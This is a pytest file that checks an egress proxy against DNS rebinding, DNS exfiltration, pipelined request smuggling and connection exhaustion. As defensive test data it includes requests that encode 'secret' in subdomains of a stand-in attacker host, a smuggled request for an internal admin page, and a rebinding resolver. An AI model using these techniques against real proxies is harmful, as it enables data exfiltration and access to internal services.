"""Attacks on the egress proxy's decisions (issue 16), one test each, against
the proxy's real server code run in this process with the system resolver
replaced by one the attacker controls:

- DNS rebinding: the name resolves to an allowed address when checked and to
  loopback afterwards; the connection must go to the address checked;
- DNS exfiltration: a name no entry allows must never be looked up (the
  query itself would carry the data out);
- request smuggling to another virtual host: a second request pipelined
  behind a plain HTTP request's body must never reach the server;
- exhaustion: connections without end must not make the proxy (outside the
  sandbox) start threads without end.
Each fails on a proxy that resolves again at connect time, resolves before
matching, or forwards the rest of the client's bytes."""
from __future__ import annotations

import asyncio
import os
import socket
import threading
from http.server import ThreadingHTTPServer

import pytest

from egress.hosts import parse_entry
from egress.server import Proxy
from egress.spec import Hook, Spec
from tests.egresskit import Recorder, serve


class Resolver:
    """getaddrinfo under the attacker's control: the first answer for a name,
    then `later` for every further lookup; every name asked is recorded."""

    def __init__(self, first: str, later: str):
        self.first, self.later, self.asked = first, later, []

    async def __call__(self, host, port, **kwargs):
        self.asked.append(host)
        address = self.first if len(self.asked) == 1 else self.later
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]


@pytest.fixture
def proxy(tmp_path):
    """start(rules, resolver, hook) → the path of a running in-process proxy."""
    loops = []

    def start(rules, resolver, hook=None) -> str:
        path = str(tmp_path / "proxy.sock")
        spec = Spec(path, tuple(parse_entry(e, f"test:{i}") for i, e in enumerate(rules, 1)),
                    str(tmp_path / "network.log"), {}, "attack")
        fd = os.open(spec.audit, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(path)
        listener.listen(8)
        listener.setblocking(False)
        loop = asyncio.new_event_loop()
        loop.getaddrinfo = resolver
        server = Proxy(spec, hook, fd)
        ready = threading.Event()

        def run():
            asyncio.set_event_loop(loop)
            task = loop.create_task(server.serve(listener))
            loop.call_soon(ready.set)
            loop.run_forever()
            task.cancel()
            loop.run_until_complete(asyncio.gather(task, *server.tasks,
                                                   return_exceptions=True))
            loop.close()

        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        loops.append((loop, thread, listener, fd))
        ready.wait(10)
        return path

    yield start
    for loop, thread, listener, fd in loops:
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        listener.close()
        os.close(fd)


def exchange(path: str, data: bytes, then: bytes = b"") -> bytes:
    """Send `data`; after a 200 answer send `then`; everything read until EOF."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(20)
        sock.connect(path)
        sock.sendall(data)
        answer = b""
        while then and b"\r\n\r\n" not in answer:
            answer += sock.recv(4096)
        if then and answer.startswith(b"HTTP/1.1 200"):
            sock.sendall(then)
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


def test_dns_rebinding_cannot_move_the_connection_to_loopback(proxy):
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    evil = ThreadingHTTPServer(("127.0.0.1", port), Recorder)     # same port, on loopback
    evil.seen, evil.label, evil.expected_key = [], "evil", ""
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    try:
        resolver = Resolver("127.0.0.2", "127.0.0.1")
        path = proxy([f"rebind.test:{port}", f"127.0.0.2/32:{port}"], resolver)
        answer = exchange(path, f"CONNECT rebind.test:{port} HTTP/1.1\r\n\r\n".encode(),
                          b"GET /x HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n")
        assert answer.startswith(b"HTTP/1.1 200 "), answer
        assert b'"server": "good"' in answer
        assert evil.seen == [] and len(good.seen) == 1
        assert resolver.asked == ["rebind.test"]        # one lookup, the one checked
    finally:
        for server in (good, evil):
            server.shutdown()
            server.server_close()


@pytest.mark.parametrize("request_bytes", [
    b"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\n\r\n",
    b"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\n\r\n",
    b"\x05\x01\x00\x05\x01\x00\x03\x16c2VjcmV0.attacker.test\x01\xbb",
    b"CONNECT c2VjcmV0.pypi.org.attacker.test:443 HTTP/1.1\r\n\r\n",
])
def test_a_name_no_entry_allows_is_never_looked_up(proxy, request_bytes):
    resolver = Resolver("8.8.8.8", "8.8.8.8")
    path = proxy(["pypi.org", "*.githubusercontent.com"], resolver)
    answer = exchange(path, request_bytes)
    assert answer.startswith(b"HTTP/1.1 403 ") or answer[-10:-8] == b"\x05\x02", answer
    assert resolver.asked == []


def test_a_request_pipelined_behind_the_body_never_reaches_the_server(proxy):
    received = []
    listener = socket.socket()
    listener.bind(("127.0.0.2", 0))
    listener.listen(1)
    port = listener.getsockname()[1]

    def server():
        conn, _ = listener.accept()
        data = b""
        while b"\r\n\r\n" not in data or len(data.partition(b"\r\n\r\n")[2]) < 3:
            data += conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        conn.shutdown(socket.SHUT_WR)
        while chunk := conn.recv(65536):     # whatever else comes, until the proxy closes
            data += chunk
        received.append(data)
        conn.close()

    thread = threading.Thread(target=server, daemon=True)
    thread.start()
    hook = Hook({"www.test": ["127.0.0.2"]}, None)
    path = proxy([f"www.test:{port}", f"127.0.0.2/32:{port}"], Resolver("0.0.0.0", "0.0.0.0"),
                 hook)
    smuggled = b"GET /admin HTTP/1.1\r\nHost: internal.test\r\n\r\n"
    answer = exchange(path, f"POST http://www.test:{port}/a HTTP/1.1\r\nHost: www.test:{port}"
                            f"\r\nContent-Length: 3\r\n\r\nabc".encode() + smuggled)
    thread.join(20)
    listener.close()
    assert answer.endswith(b"\r\n\r\nok")
    (data,) = received
    assert data.endswith(b"\r\n\r\nabc"), data
    assert b"/admin" not in data and b"internal.test" not in data


def test_connections_beyond_the_cap_are_refused_not_served(proxy, monkeypatch):
    import egress.server

    monkeypatch.setattr(egress.server, "MAX_RELAYED", 2)
    good = serve("127.0.0.2", "good")
    port = good.server_address[1]
    path = proxy([f"127.0.0.2/32:{port}"], Resolver("0.0.0.0", "0.0.0.0"))
    held = []
    try:
        for _ in range(2):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(10)
            sock.connect(path)
            sock.sendall(f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
            assert sock.recv(100).startswith(b"HTTP/1.1 200 ")
            held.append(sock)
        answer = exchange(path, f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode())
        assert answer.startswith(b"HTTP/1.1 403 ") and b"2 connections are open" in answer
        held.pop().close()              # one ends: the next is served again
        for _ in range(100):
            answer = exchange(path, f"CONNECT 127.0.0.2:{port} HTTP/1.1\r\n\r\n".encode(),
                              b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            if answer.startswith(b"HTTP/1.1 200 "):
                break
            threading.Event().wait(0.02)      # the closed tunnel's threads are ending
        assert answer.startswith(b"HTTP/1.1 200 ") and b'"server": "good"' in answer
    finally:
        for sock in held:
            sock.close()
        good.shutdown()
        good.server_close()
